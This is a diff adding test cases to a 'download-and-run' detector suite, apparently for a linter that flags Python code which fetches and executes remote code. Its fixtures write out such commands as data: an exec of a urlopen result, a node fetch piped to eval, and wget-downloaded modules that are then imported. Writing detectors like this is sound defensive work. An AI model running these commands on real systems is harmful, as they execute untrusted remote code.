@@ -118,6 +118,28 @@ describe('download-and-run', () => {
       `;
     });
 
+    it('a program that a command carries', () => {
+      python`
+        import os
+        import subprocess
+        subprocess.run(["python", "-c", "import urllib.request as u; exec(u.urlopen('https://example.com/x').read())"])
+                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+        os.system("node -e 'fetch(\"https://example.com/x\").then((r) => r.text()).then(eval)'")
+                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+        subprocess.run(["python", "-c", "import urllib.request; urllib.request.urlopen('http://localhost/health')"])
+      `;
+    });
+
+    it('a module that a command downloads, but none that is there before', () => {
+      python`
+        import os
+        import tables
+        os.system("wget -q https://example.com/plots.py; wget -q https://example.com/tables.py")
+        from plots import draw
+                          ^^^^ download-and-run
+      `;
+    });
+
     it('a program that takes an address itself', () => {
       python`
         import os
